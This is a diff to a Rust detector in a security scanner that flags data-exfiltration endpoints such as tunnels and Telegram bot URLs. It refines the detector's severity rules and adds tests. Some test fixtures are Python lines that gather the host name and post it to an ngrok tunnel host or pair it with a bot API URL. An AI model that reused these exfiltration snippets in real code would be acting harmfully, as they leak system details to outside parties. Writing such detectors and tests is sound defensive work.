@@ -6,12 +6,14 @@
 //! Webhook/bot URLs whose id/token are example values (`T00000000/…/XXXXXXXX`,
 //! `<token>`, `YOUR_…`) are skipped; a bare bot/webhook API base in runtime code is
 //! medium (a library integration) unless the file also harvests credentials or
-//! system facts.
+//! system facts; so is an API URL template whose token is a format slot
+//! (`bot{0}/{1}`, `bot%s/`): exfiltration needs a sensitive source reaching the sink.
 //!
 //! Harvesting counts where it can run: Python code and strings, or a script (shell, batch,
 //! PowerShell, `#!`); a data file listing host names (a public-suffix list) harvests nothing.
 //!
-//! Destinations by reputation come from [`super::reputation`] (the one list):
+//! Destinations by reputation come from [`super::reputation`] (the one list; a host inside a
+//! sentence of a Python string, an example in a message, is Low):
 //! paste sites and file drops Medium (install High); out-of-band collaborators, request
 //! bins and tunnels likewise, but High (install Critical) when the file also harvests
 //! credentials or system facts. A Python file that sends and names a URL on a throwaway
@@ -38,7 +40,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 4,
+    revision: 5,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -86,6 +88,14 @@ fn tail(text: &str, end: usize) -> &str {
     &rest[..stop]
 }
 
+/// `tail` without its format slots (`{0}`, `{token}`, `{}`, `%s`, `%(name)s`, `%d`): what the
+/// code itself writes into the URL, not what a caller fills in.
+fn without_format_slots(tail: &str) -> String {
+    static SLOT: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"\{[^{}]*\}|%(?:\([A-Za-z_]\w*\))?[sdr]").expect("format slot"));
+    SLOT.replace_all(tail, "").into_owned()
+}
+
 /// The prefilter: this detector's own literals, then the reputation list's and the DNS
 /// exfiltration check's (it calls both), taken from their owners so they cannot drift.
 static INTEREST: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
@@ -112,6 +122,14 @@ static INTEREST: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
     ];
     own.iter().chain(reputation::LITERALS).chain(super::dns_exfil::LITERALS).copied().collect()
 });
+
+/// Whether the host at `start..end` sits in a sentence of a Python string (an error or help
+/// message): prose around it ([`super::fs_credential_access::in_prose`]) and at least four words
+/// in the literal, so a URL with a user name or a path is not taken for one.
+fn in_sentence(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> bool {
+    super::fs_credential_access::in_prose(src, start, end)
+        && src.span_at(start).is_some_and(|s| src.text[s.body_start..s.body_end].split_whitespace().count() >= 4)
+}
 
 /// Whether the host at byte `start` is the domain of an e-mail address (`name@host`): a
 /// local part right before `@`, itself not preceded by `/` or `:` (a URL's `user@host` or
@@ -172,7 +190,10 @@ impl Detector for ExfilEndpoint {
                 // A concrete webhook (id and token in the URL) is high at run time; the bare
                 // API base (a library's Telegram/Slack integration) is medium unless the same
                 // file harvests credentials or system facts.
-                let concrete = t.trim_matches('/').len() >= 4 && t.chars().any(|ch| ch.is_ascii_digit());
+                // Format slots (`bot{0}/{1}`, `bot{token}/`, `bot%s/%s`) are filled by the caller:
+                // a client library's own API URL template, not a token written into the code.
+                let filled = without_format_slots(t);
+                let concrete = filled.trim_matches('/').len() >= 4 && filled.chars().any(|ch| ch.is_ascii_digit());
                 if install {
                     Severity::Critical
                 } else if concrete || harvests() {
@@ -202,6 +223,13 @@ impl Detector for ExfilEndpoint {
             // service; nothing is sent there by naming it.
             if is_mail_domain(file.text, start) {
                 found.push((start, format!("{host} (an e-mail address's domain)"), Severity::Low));
+                continue;
+            }
+            // A host named inside a sentence (an error or help message: "expects only the
+            // hostname (e.g., 'mybot.ngrok.io')") is an example shown to a person, not where the
+            // code sends anything.
+            if src.python && in_sentence(src, start, end) {
+                found.push((start, format!("{host} ({}, named in a message)", class.as_str()), Severity::Low));
                 continue;
             }
             let receiver = matches!(class, Class::Collaborator | Class::RequestBin | Class::Tunnel);
@@ -389,6 +417,20 @@ mod tests {
                     Some((2, "abc123.ngrok-free.app (tunnel)", Medium)),
                 ),
                 (
+                    "a tunnel host given as an example in an error message, in a file that reads the environment",
+                    "pipecat/runner/run.py",
+                    Runtime,
+                    "h = socket.gethostname()\nif '://' in proxy:\n    raise ValueError(f\"The --proxy argument expects only the hostname (e.g., 'mybot.ngrok.io').\")\n",
+                    Some((3, "mybot.ngrok.io (tunnel, named in a message)", Low)),
+                ),
+                (
+                    "the same tunnel host as the URL a harvest is posted to",
+                    "pkg/a.py",
+                    Runtime,
+                    "h = socket.gethostname()\nrequests.post('https://mybot.ngrok.io/c', data=h)\n",
+                    Some((2, "mybot.ngrok.io (tunnel)", High)),
+                ),
+                (
                     "host name harvested in code next to a tunnel",
                     "pkg/a.py",
                     Runtime,
@@ -404,6 +446,34 @@ mod tests {
                     Runtime,
                     "class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n",
                     Some((2, "api.telegram.org/bot", Medium)),
+                ),
+                (
+                    "a bot client library's own API URL template with format slots",
+                    "telebot/apihelper.py",
+                    Runtime,
+                    "def _make_request(token, method_name):\n    request_url = 'https://api.telegram.org/bot{0}/{1}'.format(token, method_name)\n",
+                    Some((2, "api.telegram.org/bot", Medium)),
+                ),
+                (
+                    "an API URL template with named and printf slots",
+                    "pkg/bot.py",
+                    Runtime,
+                    "A = 'https://api.telegram.org/bot{token}/{method}'\nB = 'https://api.telegram.org/bot%s/%s' % (t, m)\n",
+                    Some((1, "api.telegram.org/bot", Medium)),
+                ),
+                (
+                    "a concrete bot token with a format slot for the method",
+                    "pkg/a.py",
+                    Runtime,
+                    "U = 'https://api.telegram.org/bot7123456789:AAHfakeTokenValue/{0}'\n",
+                    Some((1, "api.telegram.org/bot", High)),
+                ),
+                (
+                    "a URL template next to system-info harvesting",
+                    "pkg/a.py",
+                    Runtime,
+                    "U = 'https://api.telegram.org/bot{0}/sendMessage'\ninfo = socket.gethostname()\n",
+                    Some((1, "api.telegram.org/bot", High)),
                 ),
                 (
                     "telegram api base next to system-info harvesting",
